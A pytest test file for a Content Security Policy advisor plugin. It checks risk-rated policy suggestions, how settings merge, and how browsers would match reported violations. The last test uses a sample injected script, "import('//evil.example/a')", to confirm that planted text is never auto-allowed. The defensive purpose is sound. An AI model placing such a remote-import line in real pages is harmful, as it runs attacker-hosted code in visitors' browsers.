import itertools

import pytest

from om_plugins.csp.advisor import RISKS, as_settings, suggest
from om_plugins.csp.audit.matching import PagePart, is_allowed
from om_plugins.csp.hashes import hash_text
from om_plugins.csp.policy import read_policy
from om_plugins.csp.presets import STRICT, compatible
from om_plugins.csp.violations import ViolationGroup

CDN = "https://cdn.example"
HASH = "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="


def advice(directive, blocked="inline", *, source="", **more):
    (found,) = suggest([ViolationGroup(directive, blocked, source, "/", **more)])
    return found


@pytest.mark.parametrize(
    ("directive", "blocked", "more", "change", "risk"),
    [
        ("script-src-elem", "inline", {}, {"script-src": ("'unsafe-inline'",)}, "high"),
        ("script-src-elem", "inline", {"source": "/lib.js"},
         {"script-src": ("'unsafe-inline'",)}, "high"),
        ("script-src-elem", "inline", {"hash": HASH},
         {"script-src": (f"'{HASH}'",)}, "medium"),
        ("script-src-elem", "inline", {"hash": HASH, "sample": "javascript:go()"},
         {"script-src": ("'unsafe-hashes'", f"'{HASH}'")}, "medium"),
        ("script-src-elem", "inline", {"sample": "javascript:" + "go();" * 6},
         {"script-src": ("'unsafe-inline'",)}, "high"),
        ("script-src", "eval", {}, {"script-src": ("'unsafe-eval'",)}, "high"),
        ("script-src", "wasm-eval", {}, {"script-src": ("'wasm-unsafe-eval'",)}, "low"),
        ("script-src-elem", CDN, {}, {"script-src": (CDN,)}, "medium"),
        ("script-src-elem", "https://unpkg.com", {},
         {"script-src": ("https://unpkg.com",)}, "high"),
        ("script-src-elem", "self", {}, {"script-src": ("'self'",)}, "medium"),
        ("script-src-elem", "data", {}, {"script-src": ("data:",)}, "high"),
        ("script-src-attr", "inline", {}, {"script-src-attr": ("'unsafe-inline'",)}, "high"),
        ("script-src-attr", "inline", {"hash": HASH},
         {"script-src-attr": ("'unsafe-hashes'", f"'{HASH}'")}, "medium"),
        ("style-src-attr", "inline", {}, {"style-src-attr": ("'unsafe-inline'",)}, "low"),
        ("style-src-elem", "inline", {}, {"style-src-elem": ("'unsafe-inline'",)}, "medium"),
        ("style-src-elem", "inline", {"source": "/lib.js"},
         {"style-src-elem": ("'unsafe-inline'",)}, "medium"),
        ("style-src", "inline", {"hash": HASH}, {"style-src": (f"'{HASH}'",)}, "low"),
        ("style-src-elem", CDN, {}, {"style-src-elem": (CDN,)}, "low"),
        ("img-src", CDN, {}, {"img-src": (CDN,)}, "low"),
        ("img-src", "data", {}, {"img-src": ("data:",)}, "low"),
        ("connect-src", CDN, {}, {"connect-src": (CDN,)}, "medium"),
        ("frame-src", "self", {}, {"frame-src": ("'self'",)}, "medium"),
        ("worker-src", "blob", {}, {"worker-src": ("blob:",)}, "medium"),
        ("object-src", CDN, {}, {"object-src": (CDN,)}, "high"),
        ("base-uri", "self", {}, {"base-uri": ("'self'",)}, "high"),
        ("frame-ancestors", "", {}, {}, "none"),
        ("frame-ancestors", "self", {}, {}, "none"),
        ("frame-ancestors", CDN, {}, {}, "none"),  # no browser says who would have framed the page
        ("script-src-elem", "https://*", {}, {}, "none"),
        ("script-src-elem", "https://*.example", {}, {}, "none"),
        ("connect-src", "https://a.example:*", {}, {}, "none"),
        ("img-src", "https://a';b", {}, {}, "none"),
        ("img-src", "http://[::1]:80", {}, {}, "none"),  # which no policy can name
        ("require-trusted-types-for", "trusted-types-sink", {}, {}, "none"),
        ("trusted-types", "trusted-types-policy", {"sample": "my-policy"},
         {"trusted-types": ("my-policy",)}, "medium"),
        ("trusted-types", "trusted-types-policy", {"sample": "a;b"}, {}, "none"),
    ],
)  # fmt: skip
def test_each_kind_has_a_mend_and_the_smallest_change(directive, blocked, more, change, risk):
    found = advice(directive, blocked, **more)
    assert found.fix
    assert found.change == change
    assert found.risk == risk
    assert bool(found.cost) is bool(change)
    assert risk in RISKS
    if change:
        read_policy(found.change, "suggested")


def test_settings_are_whole_directives_of_changes_that_cost_little():
    found = suggest(
        [
            ViolationGroup("style-src-elem", CDN, "", "/"),
            ViolationGroup("img-src", "data", "", "/"),
            ViolationGroup("script-src", "eval", "", "/"),
            ViolationGroup("object-src", CDN, "", "/"),
        ]
    )
    policy = {**STRICT, "img-src": ("'self'",)}
    low = as_settings(found, policy, "low")
    assert low == {
        "style-src-elem": ["'self'", "'nonce'", "'report-sample'", CDN],
        "img-src": ["'self'", "data:"],
    }
    high = as_settings(found, policy, "high")
    assert high["object-src"] == [CDN]
    assert high["script-src"][-1] == "'unsafe-eval'"
    assert policy == {**STRICT, "img-src": ("'self'",)}
    read_policy(high, "OM_CSP")


def test_an_attribute_is_allowed_by_its_hash_and_nothing_else():
    found = suggest(
        [
            ViolationGroup("script-src-attr", "inline", "", "/", hash=HASH),
            ViolationGroup("script-src-elem", "inline", "", "/", hash=HASH),
        ]
    )
    settings = as_settings(found, dict(STRICT))
    assert settings["script-src-attr"] == ["'report-sample'", "'unsafe-hashes'", f"'{HASH}'"]
    assert settings["script-src"] == [*STRICT["script-src"], f"'{HASH}'"]


@pytest.mark.parametrize("preset", [STRICT, compatible()], ids=["strict", "compatible"])
def test_a_javascript_address_is_allowed_by_its_hash_and_nonces_stay(preset):
    found = suggest(
        [
            ViolationGroup("script-src-elem", "inline", "", "/", hash=HASH, sample=sample)
            for sample in ("javascript:void(0)", "javascript:;")
        ]
    )
    (sources,) = as_settings(found, dict(preset)).values()
    assert sources == [*preset["script-src"], "'unsafe-hashes'", f"'{HASH}'"]


def test_a_host_of_scripts_takes_the_place_of_strict_dynamic():
    found = suggest([ViolationGroup("script-src-elem", CDN, "", "/")])
    assert "'strict-dynamic' goes" in found[0].cost
    assert as_settings(found, dict(STRICT)) == {
        "script-src": ["'self'", "'nonce'", "'report-sample'", CDN]
    }
    assert as_settings(found, dict(compatible())) == {
        "script-src": ["'self'", "'nonce'", "'report-sample'", CDN]
    }


@pytest.mark.parametrize("directive", ["script-src-attr", "script-src-elem", "style-src-elem"])
def test_a_text_that_is_not_known_as_a_whole_takes_the_place_of_hashes(directive):
    groups = [
        ViolationGroup(directive, "inline", "", "/", hash=HASH),
        ViolationGroup(directive, "inline", "", "/", sample="x" * 40),
    ]
    for ordered in (groups, groups[::-1]):
        (sources,) = as_settings(suggest(ordered), dict(STRICT), "high").values()
        assert "'unsafe-inline'" in sources
        assert not any("sha256" in one or "nonce" in one for one in sources)


def test_what_the_policy_does_not_restrict_is_not_set_by_it():
    """Another policy blocked it, and every image that is not data would be blocked by this one."""
    assert as_settings(suggest([ViolationGroup("img-src", "data", "", "/")]), dict(STRICT)) == {}


# --- what a browser makes of it -------------------------------------------------------------------

PAGE = "https://site.example/"
TAGS = {
    "script-src-elem": "tag",
    "style-src-elem": "tag",
    "script-src-attr": "attribute",
    "style-src-attr": "attribute",
}
LOADS = (
    "base-uri", "connect-src", "font-src", "form-action", "frame-src", "img-src", "manifest-src",
    "media-src", "object-src", "script-src-elem", "style-src-elem", "worker-src",
)  # fmt: skip
ADDRESSES = {
    CDN: f"{CDN}/a",
    "self": f"{PAGE}a",
    "data": "data:a,b",
    "blob": f"blob:{PAGE}1",
    "http://plain.example:8080": "http://plain.example:8080/a",
}
FULL = {name: ("'self'",) for name in (*LOADS, "default-src") if not name.endswith("-elem")}


def list_reports():
    """Yield what browsers report, each with the part of a page that they stopped."""
    for directive, kind in TAGS.items():
        known = hash_text(directive, "a()").split("'")[1]
        for text, more in (
            ("a()", {"hash": known, "sample": "a()"}),
            ("x" * 50, {"sample": "x" * 40}),
            ("b()", {"source": "/lib.js"}),
        ):
            group = ViolationGroup(directive, "inline", more.pop("source", ""), "/", **more)
            yield group, PagePart(kind, directive, 1, "", text=text)
    for directive, (blocked, url) in itertools.product(LOADS, ADDRESSES.items()):
        yield (
            ViolationGroup(directive, blocked, "", "/"),
            PagePart("load", directive, 1, "", url=url),
        )
    yield ViolationGroup("script-src", "eval", "", "/"), PagePart("code", "script-src", 1, "")


@pytest.mark.parametrize(
    "preset", [STRICT, compatible(), {**STRICT, **FULL}], ids=["strict", "compatible", "full"]
)
def test_what_was_reported_is_allowed_and_nothing_else_stops(preset):
    policy = {name: tuple(sources) for name, sources in preset.items()}
    own = [
        part
        for directive in ("script-src-elem", "style-src-elem")
        for part in (
            PagePart("tag", directive, 1, "", text="own", nonce="N"),
            PagePart("load", directive, 1, "", url="https://own.example/a", nonce="N"),
        )
    ]
    wrong = []
    for reports in itertools.combinations(list_reports(), 2):
        advice = suggest(group for group, _ in reports)
        changed = policy | {
            name: tuple(sources) for name, sources in as_settings(advice, policy, "high").items()
        }
        sent = {
            name: [one.replace("'nonce'", "'nonce-N'") for one in sources]
            for name, sources in changed.items()
        }
        parts = [part for one, (_, part) in zip(advice, reports, strict=True) if one.change]
        wrong += [(reports, part) for part in [*parts, *own] if not is_allowed(sent, part, PAGE)]
    assert wrong == []


@pytest.mark.parametrize("directive", ["script-src-elem", "script-src-attr", "style-src-elem"])
def test_a_hash_is_said_to_be_that_of_a_text_without_blanks_around_it(directive):
    assert (
        "Browsers report a text without the blanks around it" in advice(directive, hash=HASH).cost
    )


def test_a_text_that_somebody_sent_is_not_allowed_to_run_at_a_low_risk():
    planted = advice("script-src-elem", hash=HASH, sample="import('//evil.example/a')")
    assert as_settings([planted], read_policy(STRICT, "preset"), "low") == {}
    assert "read it first" in planted.cost
